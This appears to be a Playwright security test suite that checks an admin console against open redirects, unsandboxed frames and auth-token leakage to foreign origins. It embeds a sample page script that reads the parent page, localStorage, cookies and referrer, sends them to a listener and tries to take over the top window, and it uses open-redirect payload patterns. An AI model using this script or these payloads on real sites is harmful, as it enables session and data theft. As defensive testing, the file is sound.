// S14: no address that somebody typed takes the token, the window or the page elsewhere, wherever the console reads an address from. The policy of
// the browser is switched off: it is the second net. Somebody listens elsewhere, and counts.
import { Client } from '@cloud-factory/demo';
import type { BrowserContext, Page } from '@playwright/test';
import { expect, password, signIn, test as base } from './console.js';
import { leadingOut, leadingOutTwice, listenElsewhere, running, type Elsewhere } from './pages/hostile-addresses.js';

/** What a page elsewhere can get hold of when the console lets it in, told to the one who listens. */
const nosy = `<!doctype html><title>elsewhere</title><script>
  const tell = (what, got) => fetch('/told?' + what + '=' + encodeURIComponent(got));
  for (const [what, take] of Object.entries({
    parent: () => parent.document.body.innerHTML, storage: () => JSON.stringify(parent.localStorage), top: () => top.location.href,
    opener: () => (opener ? 'an opener' : undefined), referrer: () => document.referrer || undefined, cookie: () => document.cookie || undefined,
  })) { try { const got = take(); if (got !== undefined) tell(what, got); } catch {} }
  try { top.location.href = '/taken'; } catch {}
  tell('arrived', location.pathname);
</script>`;

type Watched = Readonly<{
  page: Page;
  context: BrowserContext;
  own: string;
  ran: string[];
  elsewhere: Elsewhere;
  tokens: Map<string, number>;
}>;
const test = base.extend<{ watched: Watched }>({
  watched: async ({ browser, baseURL }, use) => {
    const own = new URL(baseURL ?? '').origin;
    const elsewhere = await listenElsewhere(nosy);
    const context = await browser.newContext({ bypassCSP: true, locale: 'zh-CN', viewport: { width: 1440, height: 900 }, baseURL: own });
    const ran: string[] = [];
    const tokens = new Map<string, number>();
    await context.exposeFunction('__ran', (what: unknown) => void ran.push(String(what)));
    context.on('request', (request) => {
      if (!('blade-auth' in request.headers())) return;
      const { origin } = new URL(request.url());
      tokens.set(origin, (tokens.get(origin) ?? 0) + 1);
    });
    const page = await context.newPage();
    await signIn(page);
    await use({ page, context, own, ran, elsewhere, tokens });
    await context.close();
    await elsewhere.close();
  },
});

// A busy machine opens sixty pages in more than a minute.
test.describe.configure({ timeout: 300_000 });

/** Of a page as it stands: every address in it that leads elsewhere by itself, and every frame without a sandbox. */
const leading = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => {
    const found: string[] = [];
    for (const each of document.querySelectorAll('iframe, img, script, link, form[action], object, embed, audio, video')) {
      const address =
        each.getAttribute('src') ?? each.getAttribute('href') ?? each.getAttribute('action') ?? each.getAttribute('data') ?? '';
      const { origin, protocol } = new URL(address, location.origin);
      if (origin !== location.origin && !(/^(IMG|LINK)$/.test(each.tagName) && protocol === 'data:'))
        found.push(`${each.tagName} ${address}`);
      if (each.tagName === 'IFRAME' && !each.hasAttribute('sandbox')) found.push(`a frame without a sandbox: ${address}`);
    }
    return found;
  });

/** The console still stands where it stood, and nothing was opened, asked or run. */
async function expectAtHome({ page, context, own, ran, elsewhere }: Watched, after: string): Promise<void> {
  expect(new URL(page.url()).origin, after).toBe(own);
  expect(
    context
      .pages()
      .map((each) => new URL(each.url()).origin)
      .filter((each) => each !== own),
    `windows after ${after}`,
  ).toEqual([]);
  expect(await leading(page), after).toEqual([]);
  expect({ heard: elsewhere.heard.map(({ url }) => url), ran }, after).toEqual({ heard: [], ran: [] });
}

const closeOthers = async ({ page, context }: Watched): Promise<void> => {
  for (const each of context.pages()) if (each !== page) await each.close();
};

test('S14 no item of the menu leads off the console or runs, whatever the server would say of it', async ({ watched }) => {
  const { page, own, elsewhere, tokens } = watched;
  const hostile = [...leadingOut(elsewhere.host, own), ...leadingOutTwice(elsewhere.host), ...running(own)];
  // A page of the console by its path, with a `target`, and outside of the tabs, in turns; by a URL of its own where it runs.
  const ways = [{}, { target: true }, { meta: { isTab: false } }];
  const nodes = [
    ...hostile.map((path, nth) => ({ path, ...ways[nth % 3] })),
    ...leadingOutTwice(elsewhere.host).flatMap((path) => ways.map((way) => ({ path, ...way }))),
    ...running(own).map((url) => ({ path: '/x', url, openMode: 2 })),
  ].map(({ path, ...node }, nth) => {
    const name = `S14-${nth}.`;
    return { ...node, path: 'target' in node ? `${path}?target=_blank` : path, id: `s14-${nth}`, name, nameZh: name, nameEn: name };
  });
  await page.route('**/api/blade-system/menu/routes*', (route) =>
    route.fulfill({ json: { code: 200, success: true, msg: '', data: nodes } }),
  );
  await page.reload();
  await expect(page.locator('a', { hasText: 'S14-0.' }).first()).toBeVisible();
  for (let from = 0; from < nodes.length; from += 10) {
    const some = nodes.slice(from, from + 10).map(({ name }) => name);
    const clicked = await page.evaluate(async (names) => {
      const items = names.map((name) => [...document.querySelectorAll('a')].find((each) => each.textContent.includes(name)));
      for (const item of items) {
        item?.click();
        await new Promise((done) => setTimeout(done, 30)); // a window that opens has opened by then; one that comes later is seen with the next ones
      }
      return items.filter((item) => item !== undefined).length;
    }, some);
    expect(clicked).toBe(some.length);
    await expectAtHome(watched, `the items ${some.join(' ')}`);
    await closeOthers(watched);
  }
  console.info(
    `figure S14: ${nodes.length} items of the menu with ${hostile.length} addresses: ${tokens.get(elsewhere.origin) ?? 0} tokens elsewhere, ${tokens.get(own) ?? 0} at home`,
  );
  expect([...tokens.keys()]).toEqual([own]);
});

test('S14 a frame gets only a page that the tenant’s list names; it is sandboxed, gets no token and reaches nothing', async ({
  watched,
}) => {
  const { page, own, elsewhere, tokens, ran } = watched;
  const hostile = [...leadingOut(elsewhere.host, own), ...leadingOutTwice(elsewhere.host), ...running(own)];
  const show = async (address: string): Promise<void> => {
    await page.evaluate((to) => history.pushState(null, '', to), `/myiframe/${encodeURIComponent(address)}`);
    await page.evaluate(() => dispatchEvent(new PopStateEvent('popstate', { state: null })));
    await expect(page.locator('[id^="panel-"]:visible').locator('iframe, [role=alert], h1').first()).toBeVisible();
  };
  for (const address of hostile) {
    await show(address);
    expect(await leading(page), address).toEqual([]);
  }
  await expectAtHome(watched, 'the last frame');
  // Named by an administrator it is framed; and then it gets nothing but itself.
  const admin = await new Client(own, 'admin', password).signIn();
  const param = { paramName: 'S14', paramKey: 'frame.hosts', paramValue: elsewhere.origin };
  const { id } = await admin.post<{ id: string }>('blade-system/param/submit', param, 'e2e:addresses:frame');
  // Whoever wrote reads what was written; from then on everybody else does too.
  await admin.get('blade-system/param/list', { current: 1, size: 1, paramKey: 'frame.hosts' });
  await show(`${elsewhere.origin}/named`);
  await expect
    .poll(() => elsewhere.heard.map(({ url }) => url).filter((url) => url.startsWith('/told')))
    .toEqual(['/told?arrived=%2Fnamed']);
  expect(new URL(page.url()).origin).toBe(own);
  const told = elsewhere.heard.flatMap(({ headers, url, body }) =>
    [
      headers['blade-auth'],
      headers['authorization'],
      headers['cookie'],
      headers['referer']?.startsWith(own) && 'where from',
      body || undefined,
    ]
      .filter((each) => each)
      .map((each) => `${url}: ${each}`),
  );
  expect(told).toEqual([]);
  console.info(
    `figure S14: ${hostile.length} addresses in a frame: 0 framed; one that is named: ${elsewhere.heard.length} requests of its own, ${tokens.get(elsewhere.origin) ?? 0} tokens`,
  );
  expect([ran, [...tokens.keys()]]).toEqual([[], [own]]);
  await admin.post('blade-system/param/remove', { ids: [id] }, 'e2e:addresses:unframe');
});

test('S14 whoever signs in stays at home, whatever the address says of where to go afterwards', async ({ browser, watched }) => {
  const { own, elsewhere } = watched;
  const context = await browser.newContext({ bypassCSP: true, locale: 'zh-CN', baseURL: own });
  const page = await context.newPage();
  const hostile = [...leadingOut(elsewhere.host, own), ...leadingOutTwice(elsewhere.host), ...running(own)];
  const at = async (path: string): Promise<URL> => {
    await page.goto(path, { waitUntil: 'commit' });
    await expect(page.getByLabel('账号').or(page.getByRole('navigation', { name: '标签页' }))).toBeVisible();
    return new URL(page.url());
  };
  // A secret that is worth nothing, on every path that could be one elsewhere; it is out of the address before anything is asked.
  for (const path of [`//${elsewhere.host}/x`, `/.//${elsewhere.host}/x`, `/\\${elsewhere.host}/x`, '/order/orderentry']) {
    const { origin, search } = await at(`${own}${path}?secret=s14-nothing&to=${encodeURIComponent(elsewhere.origin)}`);
    expect([origin, search.includes('s14-nothing')], path).toEqual([own, false]);
  }
  // Where to go after signing in; a provider that nobody has, and where it should send people back to.
  await signIn(page, `/login?to=${encodeURIComponent(leadingOutTwice(elsewhere.host)[0] ?? '')}`);
  // Whoever is signed in is asked before a secret makes somebody else of them.
  await page.goto('/order/orderentry?secret=s14-nothing');
  await page.getByRole('dialog').getByRole('button', { name: '保持当前登录' }).click();
  await expect(page.getByRole('navigation', { name: '标签页' })).toBeVisible();
  expect(page.url()).not.toContain('s14-nothing');
  for (const address of hostile) {
    const { origin } = await at(`/login?to=${encodeURIComponent(address)}`);
    expect(origin, address).toBe(own);
  }
  const started = await Promise.all(
    hostile.map(async (address) => {
      const query = new URLSearchParams({ source: address, to: address, redirect_uri: address, state: address });
      const answer = await fetch(`${own}/api/console/sign-in/start?${query}`, { redirect: 'manual' });
      return [answer.status >= 500, answer.headers.get('location')].map(String).join();
    }),
  );
  const away = started.filter((each) => !/^false,(null|\/[^/\\].*)$/.test(each));
  expect(away).toEqual([]);
  expect(elsewhere.heard).toEqual([]);
  console.info(
    `figure S14: ${hostile.length} addresses to go to after signing in, and as many for a provider: ${elsewhere.heard.length} requests elsewhere`,
  );
  await context.close();
});

test('S14 an address that was typed into a record is shown as a text and leads nowhere; where one is used it is refused', async ({
  watched,
}) => {
  const { page, own, elsewhere, ran, tokens } = watched;
  const admin = await new Client(own, 'admin', password).signIn();
  const hostile = [...leadingOut(elsewhere.host, own), ...leadingOutTwice(elsewhere.host), ...running(own)];
  const refused: string[] = [];
  const tell = (path: string, body: object): Promise<boolean> =>
    admin.post(path, body, `e2e:addresses:${path}:${JSON.stringify(body)}`).then(
      () => true,
      () => (refused.push(path), false),
    );
  for (const [nth, address] of hostile.entries()) {
    const typed = address.replaceAll(/\p{Cc}/gu, '');
    expect(
      await tell('blade-system/param/submit', { paramName: typed.slice(0, 50), paramKey: `s14.${nth}`, paramValue: typed }),
      typed,
    ).toBe(true);
    await tell('blade-system/dict/submit', { code: `s14-${nth}`, dictValue: typed.slice(0, 50), dictKey: `${nth}`, remark: typed });
    // Those that are no page of the console or of the web are no item of a menu, nor is any a provider: nobody allowed its host.
    const item = { code: `s14.${nth}`, nameZh: 'S14', nameEn: 'S14' };
    const isWeb = /^\s*https?:\/\/[^\s\\]*$/i.test(address) && new URL(address).username === '';
    if (!isWeb)
      expect(await tell('blade-system/menu/submit', { ...item, path: address }), `as an item of the menu: ${JSON.stringify(address)}`).toBe(
        false,
      );
    const provider = { source: `s14${nth}`, name: 'S14', issuer: address, clientId: 'x', clientSecret: 'x-secret', tenantId: null };
    expect(await tell('blade-system/provider/submit', provider), `as a provider: ${address}`).toBe(false);
  }
  const pages = ['/system/param', '/system/dict', '/system/menu', '/system/tenant', '/info/index', '/system/log/usual'];
  for (const path of pages) {
    await page.goto(path);
    await expect(page.locator('[id^="panel-"]:visible').locator('h1').first()).toBeVisible();
    await expectAtHome(watched, path);
    const links = await page.evaluate(() => [...document.querySelectorAll('a[href]')].map((each) => (each as HTMLAnchorElement).href));
    expect(
      links.filter((each) => new URL(each).origin !== own),
      path,
    ).toEqual([]);
  }
  await page.goto('/system/param');
  await expect(page.locator('[id^="panel-"]:visible').getByText(elsewhere.host).first()).toBeVisible();
  console.info(
    `figure S14: ${hostile.length} addresses typed into records, ${refused.length} refused where they would be used; ${pages.length} pages: 0 links elsewhere, ${ran.length} ran, ${tokens.get(elsewhere.origin) ?? 0} tokens elsewhere`,
  );
});
